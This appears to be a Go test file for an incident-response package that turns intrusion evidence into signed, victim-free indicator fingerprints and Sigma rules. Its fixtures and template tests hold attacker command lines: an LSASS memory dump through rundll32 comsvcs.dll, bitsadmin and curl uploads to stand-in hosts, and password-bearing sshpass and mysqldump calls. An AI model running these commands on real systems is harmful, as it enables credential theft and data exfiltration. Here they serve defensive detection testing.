package fingerprint

import (
	"bytes"
	"crypto"
	"crypto/ed25519"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/contrail-ir/contrail/dsse"
	"github.com/contrail-ir/contrail/internal/require"
	"github.com/contrail-ir/contrail/match/sigma"
	"github.com/contrail-ir/contrail/stix"
)

const hash = "0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0"

const trailText = `{"org":"alpha","established":true,
"nodes":[{"id":"p1","kind":"process","host":"PNR-DB01","label":"C:\\ProgramData\\ctl\\svcagent.exe [svcagent.exe -install --node PNR-DB01]","refs":[{"file":"PNR-DB01/Sysmon.evtx","record":5,"role":"intrusion"}]},
{"id":"c1","kind":"command","label":"\"C:\\Windows\\System32\\rundll32.exe\" comsvcs.dll MiniDump 624 C:\\Users\\jgarcia\\AppData\\x.dmp full","refs":[{"file":"a","record":6,"role":"intrusion"}]},
{"id":"c2","kind":"command","label":"tunnel source GigabitEthernet0/0/0","refs":[{"file":"t","record":1,"role":"intrusion"}]},{"id":"s1","kind":"logon","label":"netops from 10.1.2.3","refs":[]},
{"id":"n1","kind":"name","label":"cdn.bad-updates.org","refs":[]},{"id":"a1","kind":"address","label":"203.0.113.9","refs":[]},
{"id":"pipe","kind":"pipe","label":"\\mojo.zz81q","refs":[{"file":"a","record":7,"role":"rejected"}]}],
"edges":[{"from":"s1","to":"c2","kind":"has-command","time":"2026-03-01T09:00:00Z","refs":[{"file":"t","record":1,"role":"intrusion"}]},{"from":"n1","to":"a1","kind":"resolved","time":"2026-03-01T00:00:00Z","refs":[]}],
"stages":[{"tactic":"initial-access","technique":"T1190","time":"2026-03-01T08:00:00Z","text":"","refs":[]},{"tactic":"execution","technique":"T1059.001","time":"2026-03-01T09:00:00Z","text":"on PNR-DB01","refs":[]},
{"tactic":"credential-access","technique":"T1003.001","time":"2026-03-01T10:00:00Z","text":"","refs":[]},{"tactic":"collection","technique":"T1560.001","time":"2026-03-02T10:00:00Z","text":"","refs":[]}],
"implant":[{"name":"svcagent.exe","paths":["PNR-DB01: C:\\ProgramData\\ctl\\svcagent.exe"],"sha256":["` + hash + `"],"hosts":["PNR-DB01","10.1.2.3"],"refs":[{"file":"a","record":5,"role":"intrusion"}]}],
"infrastructure":[{"value":"cdn.bad-updates.org","role":"first-hop","refs":[{"file":"a","record":8,"role":"intrusion"}]},{"value":"203.0.113.9","role":"first-hop","refs":[]},{"value":"10.1.2.3","role":"first-hop","refs":[]},{"value":"198.51.100.7","role":"relay","refs":[]},{"value":"srv.alpha-air.example","role":"unknown","refs":[]}],
"access":{"technique":"T1190","refs":[{"file":"w","record":1,"role":"intrusion"}]},
"accounts":[{"account":"ALPHAAIR\\jgarcia","made":false},{"account":"ALPHAAIR\\svc_upd9","made":true,"refs":[{"file":"a","record":9,"role":"intrusion"}]}],
"persistence":[{"kind":"service","host":"PNR-DB01","name":"CtlAgentSvc","refs":[{"file":"a","record":10,"role":"intrusion"}]},{"kind":"task","name":"PNR-DB01 backup","refs":[]}],
"hosts":[{"host":"PNR-DB01"},{"host":"ws7.alpha-air.example"}],"sent_bytes":5}`

type population struct {
	hosts int
	seen  map[string]int
}

func (p population) Count(_ Kind, v string) (int, int) { return p.seen[v], p.hosts }

func draft(t *testing.T) *Fingerprint {
	t.Helper()
	tr, err := ReadTrail(strings.NewReader(trailText))
	if err != nil {
		t.Fatal(err)
	}
	f, _, err := Draft(tr, DraftOptions{Name: "March", Victim: Victim{Persons: []string{"GARCIA/MARIA"}}, Counters: []Counter{population{40, map[string]int{"CtlAgentSvc": 1}}}})
	if err != nil {
		t.Fatal(err)
	}
	return f
}

func TestDraftTakesTheIntrudersAndNothingOfTheVictims(t *testing.T) {
	f := draft(t)
	want := map[Kind]string{SHA256: hash, FileName: "svcagent.exe", FilePath: `*\ProgramData\ctl\svcagent.exe`, Domain: "cdn.bad-updates.org", Service: "CtlAgentSvc", Account: "svc_upd9", Sequence: "T1059.001 T1003.001 T1560.001"}
	tiers := map[string]Tier{hash: Unique, "198.51.100.7": Supporting, "cdn.bad-updates.org": Strong, "CtlAgentSvc": Supporting}
	got := map[Kind]string{}
	var command string
	groups := map[string]string{}
	for _, it := range f.Items {
		groups[it.Value] = it.Group
		if it.Value == want[it.Kind] {
			got[it.Kind] = it.Value
		}
		if tier, ok := tiers[it.Value]; ok && it.Tier != tier {
			t.Errorf("%s: tier %s, want %s", it.Value, it.Tier, tier)
		}
		if it.Kind == CommandLine && strings.Contains(it.Value, "MiniDump") {
			command = it.Value
		}
		if it.Kind == Pipe {
			t.Error("a rejected reference made an item")
		}
		if strings.Contains(it.Value, "tunnel") {
			t.Errorf("what a device was told is an item of programs: %s %q", it.Kind, it.Value)
		}
	}
	for k, v := range want {
		if got[k] != v {
			t.Errorf("%s %s is missing", k, v)
		}
	}
	if command != "*rundll32.exe* *.dll MiniDump * *.dmp full" {
		t.Errorf("template %q", command)
	}
	if groups["203.0.113.9"] != groups["cdn.bad-updates.org"] {
		t.Error("a name and its address are not one group")
	}
	var b bytes.Buffer
	released := *f
	for i := range released.Items {
		released.Items[i].Refs = []Ref{}
	}
	if err := released.Write(&b); err != nil {
		t.Fatal(err)
	}
	low := strings.ToLower(b.String())
	for _, secret := range []string{"pnr-db01", "10.1.2.3", "jgarcia", "alphaair", "alpha-air", "garcia", "ws7"} {
		if strings.Contains(low, secret) {
			t.Errorf("%q got into the fingerprint", secret)
		}
	}
}

// Programs read a draft and a signed fingerprint alike: every key is there, a draft's times are empty.
func TestADraftHasEveryKey(t *testing.T) {
	var b bytes.Buffer
	if err := draft(t).Write(&b); err != nil {
		t.Fatal(err)
	}
	var whole map[string]any
	if err := json.Unmarshal(b.Bytes(), &whole); err != nil {
		t.Fatal(err)
	}
	for _, key := range []string{"name", "version", "marking", "not_before", "expires", "items"} {
		if _, there := whole[key]; !there {
			t.Errorf("%s is missing", key)
		}
	}
	if whole["not_before"] != "" || whole["expires"] != "" {
		t.Errorf("valid from %v until %v, and nobody signed it", whole["not_before"], whole["expires"])
	}
	for _, it := range whole["items"].([]any) {
		for _, key := range []string{"kind", "value", "rule", "tier", "specificity", "reasons", "refs", "approved_by"} {
			if _, there := it.(map[string]any)[key]; !there {
				t.Errorf("%v: %s is missing", it, key)
			}
		}
	}
	if again, err := Read(&b); err != nil || again.NotBefore != "" {
		t.Errorf("%+v %v", again, err)
	}
}

func TestVictimDataIsFound(t *testing.T) {
	v := Victim{Hosts: []string{"crew-fs02.corp.example"}, Domains: []string{"CORP"}, Accounts: []string{`CORP\m.silva`}, Persons: []string{"NGUYEN/THI"}}
	for _, c := range []struct {
		k     Kind
		value string
		holds bool
	}{
		{IP, "192.168.7.7", true}, {IP, "fe80::1", true}, {IP, "203.0.113.9", false}, {URL, "http://10.0.0.1/abcd", true}, {URL, "http://[fd00::1]/abcd", true},
		{CommandLine, `*net.exe* use \\crew-fs02\c$`, true}, {CommandLine, "*tool* -u m.silva", true}, {FilePath, `*\loot\nguyen_thi.csv`, true},
		{CommandLine, "*tool* xcrew-fs021", false}, {Service, "CORP updater", true}, {Sequence, "T1190", false}, {SHA256, hash, false}, {CommandLine, "*ping* 10.0.0.7", true},
	} {
		if got := v.Holds(c.k, c.value); (got != "") != c.holds {
			t.Errorf("%s %q: %q", c.k, c.value, got)
		}
	}
}

func TestNormaliseRefusesWhatMatchesEverything(t *testing.T) {
	for _, c := range []struct {
		k Kind
		v string
	}{
		{CommandLine, "*"}, {CommandLine, "**?*"}, {FileName, "*.exe"}, {FileName, "a.dll"}, {Domain, "com"}, {Domain, "co.uk"}, {Domain, "*.org"}, {FilePath, `*\*\*.exe`},
		{SHA256, strings.Repeat("g", 64)}, {MD5, "d41d8cd98f00b204e9800998ecf8427e"}, {Service, "a"}, {URL, "http://x/"}, {Registry, "*"}, {"nothing", "x"}, {Pipe, "x\ny"}, {ProcessChain, "* > *"},
	} {
		if v, err := Normalise(c.k, c.v); err == nil {
			t.Errorf("%s %q became %q", c.k, c.v, v)
		}
	}
	for _, rule := range []string{
		"title: a\nlogsource: {product: windows}\ndetection: {s: {Image: '*'}, condition: s}\n",
		"title: a\nlogsource: {product: windows}\ndetection: {s: {EventID: 4688}, condition: s}\n",
		"title: a\nlogsource: {product: windows}\ndetection: {s: {Image: 'evil.exe'}, condition: not s}\n",
		"title: a\nlogsource: {product: windows}\ndetection: {s: {Image: ['evil.exe', '*']}, condition: s}\n",
		"title: a\nlogsource: {product: windows}\ndetection: {s: {Image: 'evil.exe'}, t: {Image: '*'}, condition: s or t}\n",
		"title: a\nlogsource: {product: windows}\ndetection: {s: {Image: 'evil.exe'}, t: {Image: '*'}, condition: 1 of them}\n",
		"no rule",
	} {
		if CheckRule(rule) == nil {
			t.Errorf("passed:\n%s", rule)
		}
	}
	if err := CheckRule("title: a\nlogsource: {product: windows}\ndetection: {s: {Image: 'evil.exe'}, t: {EventID: 1}, condition: s and t}\n"); err != nil {
		t.Error(err)
	}
}

func sample(k Kind) string {
	switch k {
	case SHA256:
		return hash
	case SHA1:
		return hash[:40]
	case MD5, ImpHash, JA3:
		return hash[:32]
	case IP:
		return "203.0.113.9"
	case URL:
		return "https://bad-updates.org/it's/*x?id=1"
	case Domain:
		return "bad-updates.org"
	case EMail:
		return "it.support@bad-updates.org"
	case Certificate:
		return hash[:40]
	case FileName:
		return "it's $[x].exe"
	case FilePath:
		return `*\Users\*\AppData\evil'x.dll`
	case ProcessChain:
		return "w3wp.exe > dropper.exe"
	case WorkingHours:
		return "06-15"
	case Beacon:
		return "1m30s"
	case Sequence:
		return "T1190 T1059.001 T1003"
	case Registry:
		return `*\Software\Run\Updater`
	}
	return `some'thing: # odd *value*`
}

func full(t *testing.T) *Fingerprint {
	f := &Fingerprint{Name: "all kinds", Version: 1, Items: []Item{}}
	f.Marking.TLP = 3
	for _, k := range Kinds() {
		if err := f.Add(Item{Kind: k, Value: sample(k)}); err != nil {
			t.Fatal(err)
		}
	}
	return f
}

func TestRulesOfEveryKindAreSigma(t *testing.T) {
	f := full(t)
	rules, err := f.Rules()
	if err != nil {
		t.Fatal(err)
	}
	ids := map[string]bool{}
	kinds := map[Kind]bool{}
	all := &sigma.Collection{}
	for _, r := range rules {
		if ids[r.ID] {
			t.Errorf("id %s twice", r.ID)
		}
		ids[r.ID] = true
		kinds[f.Items[r.Item].Kind] = true
		all.Add(sigma.Parse(r.ID, []byte(r.Text)))
	}
	if _, rejected := sigma.Compile(all, sigma.Options{}); len(rejected) > 0 {
		t.Fatal(rejected[0])
	}
	if len(kinds) < 19 {
		t.Errorf("only %d kinds have rules: %v", len(kinds), kinds)
	}
}

func TestExports(t *testing.T) {
	f := full(t)
	for i := range f.Items {
		f.Items[i].Refs = []Ref{{"SECRETHOST/x.evtx", 1}}
	}
	for _, format := range []string{"stix", "misp", "sigma", "csv"} {
		var a, b bytes.Buffer
		if err := errors.Join(f.Export(&a, format), f.Export(&b, format)); err != nil {
			t.Fatalf("%s: %v", format, err)
		}
		if a.String() != b.String() {
			t.Errorf("%s: two exports differ", format)
		}
		if strings.Contains(a.String(), "SECRETHOST") {
			t.Errorf("%s: references left", format)
		}
		if format == "stix" || format == "misp" {
			back, _, err := Import("back", bytes.NewReader(a.Bytes()), Victim{})
			if err != nil {
				t.Fatalf("%s comes not back: %v", format, err)
			}
			found := false
			for _, it := range back.Items {
				found = found || it.Kind == SHA256 && it.Value == hash
			}
			if !found {
				t.Errorf("%s: the digest did not come back: %+v", format, back.Items)
			}
		}
		if format == "stix" {
			objects, damage, err := stix.ReadAll(bytes.NewReader(a.Bytes()), stix.Limits{})
			if err != nil || len(damage) > 0 || len(stix.Errors(stix.ValidateBundle(&stix.Bundle{Objects: objects}))) > 0 {
				t.Errorf("stix: %v %v", err, damage)
			}
		}
	}
	if f.Export(&bytes.Buffer{}, "pdf") == nil {
		t.Error("an unknown format was taken")
	}
}

func keysOf(n int) (pub []ed25519.PublicKey, priv []crypto.Signer) {
	for i := range n {
		k := ed25519.NewKeyFromSeed(bytes.Repeat([]byte{byte(i + 1)}, 32))
		pub, priv = append(pub, k.Public().(ed25519.PublicKey)), append(priv, k)
	}
	return
}

func TestOpenFailsClosed(t *testing.T) {
	now := time.Date(2026, 5, 1, 0, 0, 0, 0, time.UTC)
	f := draft(t)
	if _, err := f.Release(Victim{}, now, now.Add(time.Hour), false); err == nil {
		t.Fatal("unapproved items left")
	}
	for i := range f.Items {
		if err := f.Approve("analyst", i); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := f.Release(Victim{Hosts: []string{"svcagent"}}, now, now.Add(time.Hour), false); err == nil {
		t.Fatal("a host's name left")
	}
	r, err := f.Release(Victim{}, now, now.Add(time.Hour), false)
	if err != nil {
		t.Fatal(err)
	}
	pub, priv := keysOf(4)
	two, err := Sign(r, priv[0], priv[1])
	if err != nil {
		t.Fatal(err)
	}
	got, by, err := Open(two, Signatures, now, pub...)
	if err != nil || len(by) != 2 || len(got.Items) != len(f.Items) {
		t.Fatal(err, by)
	}
	one, _ := Sign(r, priv[0])
	added, err := AddSignature(one, priv[1], now)
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := Open(added, 2, now, pub...); err != nil {
		t.Error(err)
	}
	if _, err := AddSignature(one, priv[0], now); err == nil {
		t.Error("one key signed twice")
	}
	e, _ := dsse.Parse(one)
	e.Signatures = append(e.Signatures, e.Signatures[0])
	twice, _ := e.Encode()
	e, _ = dsse.Parse(two)
	e.Payload = bytes.Replace(e.Payload, []byte("svcagent"), []byte("svcagenu"), 1)
	tampered, _ := e.Encode()
	e, _ = dsse.Parse(two)
	e.PayloadType = "text/plain"
	typed, _ := e.Encode()
	var plainText bytes.Buffer
	_ = r.Write(&plainText)
	for _, c := range []struct {
		name string
		b    []byte
		at   time.Time
		keys []ed25519.PublicKey
		want error
	}{
		{"unsigned", plainText.Bytes(), now, pub, ErrUnsigned},
		{"no JSON", []byte("x"), now, pub, nil},
		{"expired", two, now.Add(time.Hour), pub, ErrExpired},
		{"not yet valid", two, now.Add(-time.Second), pub, ErrTooEarly},
		{"tampered", tampered, now, pub, ErrSignature},
		{"wrong type", typed, now, pub, ErrSignature},
		{"wrongly keyed", two, now, pub[2:], ErrSignature},
		{"half wrongly keyed", two, now, pub[1:], ErrSignature},
		{"one signature", one, now, pub, ErrSignature},
		{"same signature twice", twice, now, pub, ErrSignature},
		{"same key trusted twice", one, now, []ed25519.PublicKey{pub[0], pub[0]}, ErrSignature},
		{"no trusted key", two, now, nil, ErrSignature},
	} {
		f, _, err := Open(c.b, Signatures, c.at, c.keys...)
		if err == nil || f != nil || c.want != nil && !errors.Is(err, c.want) {
			t.Errorf("%s: %v, want %v", c.name, err, c.want)
		}
	}
	if _, _, err := Open(two, 0, now, pub...); err == nil {
		t.Error("a threshold of none was taken")
	}
}

func TestWeightIsCappedAndFallsWithFrequency(t *testing.T) {
	for _, k := range Kinds() {
		for hosts := range 200 {
			last := 1e9
			for seen := 0; seen <= hosts; seen++ {
				w := Weigh(k, Strong, Specificity{Hosts: hosts, Seen: seen})
				if !k.Exact() && w > Cap(hosts)+0.01 || w > last || w < 0 {
					t.Fatalf("%s seen on %d of %d weighs %g", k, seen, hosts, w)
				}
				last = w
			}
		}
		if w := Weigh(k, NeverAlone, Specificity{Hosts: 1 << 20}); w > neverAloneDecibans {
			t.Errorf("%s: never alone weighs %g", k, w)
		}
	}
}

func TestWarninglists(t *testing.T) {
	w, err := ReadWarninglists(fstest.MapFS{
		"a/list.json": {Data: []byte(`{"name":"hosting","type":"hostname","list":[".shared.example","cdn.example"]}`)},
		"b/list.json": {Data: []byte(`{"name":"net","type":"cidr","list":["198.51.100.0/24"]}`)},
		"c/list.json": {Data: []byte(`{"name":"re","type":"regex","list":["^update[0-9]"]}`)},
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		k     Kind
		v     string
		named bool
	}{{Domain, "x.shared.example", true}, {Domain, "notshared.example", false}, {IP, "198.51.100.7", true}, {IP, "203.0.113.1", false}, {URL, "https://a.cdn.example:8443/abcd", true}, {FileName, "update7.exe", true}} {
		if got := w.Match(c.k, c.v); (len(got) > 0) != c.named {
			t.Errorf("%s %s: %v", c.k, c.v, got)
		}
	}
	if _, err := ReadWarninglists(fstest.MapFS{}); err == nil {
		t.Error("no list is no error")
	}
}

func TestImportText(t *testing.T) {
	f, _, err := Import("report.txt", strings.NewReader("C2 at hxxps://evil[.]example[.]org/gate.php, 203.0.113[.]5; dropper.exe "+strings.ToUpper(hash)+" and 192.168.1.1 \n"), Victim{})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, it := range f.Items {
		got = append(got, string(it.Kind)+" "+it.Value)
	}
	if s := strings.Join(got, "\n"); s != "sha256 "+hash+"\nip 203.0.113.5\nurl https://evil.example.org/gate.php" {
		t.Error(s)
	}
}

// TestImportTellsWhatIsMeantTogether: one value of a conjunction is not what the report describes.
func TestImportTellsWhatIsMeantTogether(t *testing.T) {
	pattern := func(id int, p string) string {
		return fmt.Sprintf(`{"type":"indicator","spec_version":"2.1","id":"indicator--00000000-0000-4000-8000-%012d","created":"2026-01-01T00:00:00.000Z","modified":"2026-01-01T00:00:00.000Z","pattern_type":"stix","valid_from":"2026-01-01T00:00:00Z","pattern":%q}`, id, p)
	}
	f, _, err := Import("bundle.json", strings.NewReader(`{"type":"bundle","id":"bundle--00000000-0000-4000-8000-000000000000","objects":[`+strings.Join([]string{
		pattern(1, "[domain-name:value = 'one.bad-updates.org'] FOLLOWEDBY [ipv4-addr:value = '203.0.113.9']"),
		pattern(2, "[file:hashes.'SHA-256' = '"+hash+"' AND file:name = 'sync-helper-x.exe']"),
		pattern(3, "[domain-name:value = 'two.bad-updates.org'] AND [url:value = 'http://one.bad-updates.org/gate.php']"),
		pattern(4, "[domain-name:value = 'two.bad-updates.org']"),
	}, ",")+`]}`), Victim{})
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]bool{"one.bad-updates.org": true, "203.0.113.9": true, hash: false, "sync-helper-x.exe": true, "two.bad-updates.org": false, "http://one.bad-updates.org/gate.php": true}
	if len(f.Items) != len(want) {
		t.Errorf("%d items", len(f.Items))
	}
	for _, round := range []string{"imported", "counted"} {
		for _, it := range f.Items {
			if together := slices.Contains(it.Reasons, whyTogether); together != want[it.Value] || together && tierRank[it.Tier] < tierRank[Supporting] {
				t.Errorf("%s: %s %s, %q", round, it.Value, it.Tier, it.Reasons)
			}
		}
		for i := range f.Items { // as if it were rare: it must not rise
			f.Items[i].Specificity.Hosts = 5000
		}
		f.Rate(nil)
	}
}

// TestImportRealReports reads published reports.
func TestImportRealReports(t *testing.T) {
	for _, pattern := range []string{"mandiant-openioc/*/*.ioc", "mvt-indicators/*/*.stix2", "amnesty/*/*.stix2", "volexity/*/*/*/*.csv", "eset/*/*.json"} {
		files := require.Files(t, "ioc/"+pattern)
		read, items := 0, 0
		for _, p := range files[:min(len(files), 12)] {
			b, err := os.ReadFile(p)
			if err != nil {
				t.Fatal(err)
			}
			f, _, err := Import(p, bytes.NewReader(b), Victim{})
			if err != nil {
				// One report names programs that are lawful, and nothing to search for.
				if filepath.Base(p) != "cellebrite.stix2" || !strings.Contains(err.Error(), "there is no indicator in it") {
					t.Error(err)
				}
				continue
			}
			if _, err := f.Rules(); err != nil {
				t.Errorf("%s: %v", p, err)
			}
			read++
			items += len(f.Items)
		}
		t.Logf("%s: %d of %d files, %d items", pattern, read, len(files), items)
	}
}

func FuzzRead(f *testing.F) {
	f.Add([]byte(`{"name":"x","version":1,"marking":{},"items":[]}`))
	for _, k := range Kinds() {
		fp := &Fingerprint{Name: "x", Version: 1, Items: []Item{}}
		var b bytes.Buffer
		if err := errors.Join(fp.Add(Item{Kind: k, Value: sample(k)}), fp.Write(&b)); err != nil {
			f.Fatal(err)
		}
		if read, err := Read(bytes.NewReader(b.Bytes())); err != nil {
			f.Fatal(err)
		} else if rules, err := read.Rules(); err != nil || len(rules) != len(searches(k, sample(k))) {
			f.Fatalf("%s: %d rules, %v", k, len(rules), err)
		}
		f.Add(b.Bytes())
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		fp, err := Read(bytes.NewReader(b))
		if err != nil {
			return
		}
		if _, err := fp.Rules(); err != nil && !strings.Contains(err.Error(), "the rule would match everything") {
			t.Fatal(err)
		}
		var out bytes.Buffer
		if err := fp.Write(&out); err != nil {
			t.Fatal(err)
		}
		if _, err := Read(&out); err != nil {
			t.Fatalf("what was written is refused: %v", err)
		}
	})
}

func FuzzOpen(f *testing.F) {
	pub, priv := keysOf(2)
	e, _ := dsse.Sign(PayloadType, []byte(`{}`), priv...)
	b, _ := e.Encode()
	f.Add(b)
	f.Fuzz(func(t *testing.T, b []byte) {
		if fp, _, err := Open(b, 2, time.Unix(1e9, 0), pub...); err == nil && fp == nil {
			t.Fatal("neither a fingerprint nor a reason")
		}
	})
}

func FuzzRuleText(f *testing.F) {
	for _, k := range Kinds() {
		f.Add(string(k), sample(k))
	}
	f.Fuzz(func(t *testing.T, k, v string) {
		n, err := Normalise(Kind(k), v)
		if err != nil {
			return
		}
		if again, err := Normalise(Kind(k), n); err != nil || again != n {
			t.Fatalf("%s %q: normalised twice it is %q, %v", k, n, again, err)
		}
		for _, s := range searches(Kind(k), n) {
			it := &Item{Kind: Kind(k), Value: n, Tier: Strong}
			if err := CheckRule((&Fingerprint{}).rule(it, itemID(Kind(k), n), s)); err != nil && !strings.Contains(err.Error(), "everything") {
				t.Fatalf("%s %q: %v", k, n, err)
			}
		}
	})
}

func TestBaselineCountsWhereTheItemCouldBeSeen(t *testing.T) {
	f := &Fingerprint{Name: "x", Version: 1, Items: []Item{}}
	for _, it := range []Item{{Kind: Service, Value: "CtlAgentSvc"}, {Kind: Mutex, Value: "Global\\zz91"}} {
		if err := f.Add(it); err != nil {
			t.Fatal(err)
		}
	}
	rules, err := f.Rules()
	if err != nil {
		t.Fatal(err)
	}
	all := map[string]bool{}
	for _, r := range rules {
		all[r.ID] = true
	}
	b, err := NewBaseline(f)
	if err != nil {
		t.Fatal(err)
	}
	for _, h := range []string{"a", "b", "c"} {
		b.Host(h, nil)
	}
	b.Host("blind", all)
	b.Found(rules[0].ID, "a")
	b.Found(rules[1].ID, "a")
	b.Found(rules[0].ID, "of the intrusion")
	b.Found("another", "b")
	if seen, hosts := b.Count(Service, "CtlAgentSvc"); seen != 1 || hosts != 3 {
		t.Errorf("seen on %d of %d", seen, hosts)
	}
	if seen, hosts := b.Count(Mutex, "Global\\zz91"); seen != 0 || hosts != 0 {
		t.Errorf("what no log shows was counted: %d of %d", seen, hosts)
	}
}

func TestCallsSeesThroughAShell(t *testing.T) {
	for template, want := range map[string]struct {
		program string
		telling int
	}{
		"*cmd.exe* /c whoami /all":                {"whoami", 1},
		"*7z.exe* a -t7z -mhe=on -* *.7z *.dat":   {"7z", 5},
		"*cmd.exe* /c rundll32.exe * MiniDump *x": {"rundll32", 2},
		"*cmd.exe* /c":                            {"cmd", 1},
	} {
		if p, n := calls(template); p != want.program || n != want.telling {
			t.Errorf("%q: %s, %d; want %v", template, p, n, want)
		}
	}
}

// TestTemplatesKeepHabitsAndNobodysNames: what a switch says is an account is the victim's, though no trail knows the account.
func TestTemplatesKeepHabitsAndNobodysNames(t *testing.T) {
	for line, want := range map[string]string{
		`C:\x\plink.exe -ssh -batch -l netops 10.16.26.1 "show running-config"`:   `*plink.exe* -ssh -batch -l *`,
		`C:\P\dz.exe a -v200m -hpQDabi9 D:\s\x.part1.rar D:\s`:                    `*dz.exe* a -* -hp* *.rar *`,
		`sshpass -p xdira ssh dbadm@10.101.1.41`:                                  `*sshpass* -p * ssh *`,
		`mysqldump -uroot -pHunter2 resv pax -r /tmp/x.sql`:                       `*mysqldump* -u* -p* resv pax -r *.sql`,
		`bitsadmin /transfer Vumujob /upload /priority high https://a/b C:\c.rar`: `*bitsadmin* /transfer * /upload /priority high * *.rar`,
		`appcmd.exe install module /name:TafudiFilter /image:C:\x\fl.dll`:         `*appcmd.exe* install module /name:* /image:*.dll`,
		`curl -u backup:Summer26 -k -T a.rar`:                                     `*curl* -u * -k -T *.rar`,
		`psql -U carlos -d reservations -c "select 1"`:                            `*psql* -U * -d reservations -c *`,
		`runas /user CORP\anna notepad.exe`:                                       `*runas* /user * notepad.exe`,
		`tool.exe -l -v --dump all`:                                               `*tool.exe* -l -v --dump all`,
		`rundll32.exe C:\w\comsvcs.dll MiniDump 624 C:\x.dmp full`:                `*rundll32.exe* *.dll MiniDump * *.dmp full`,
	} {
		if got := Template(line, nil); got != want {
			t.Errorf("%s: %q, want %q", line, got, want)
		}
	}
}
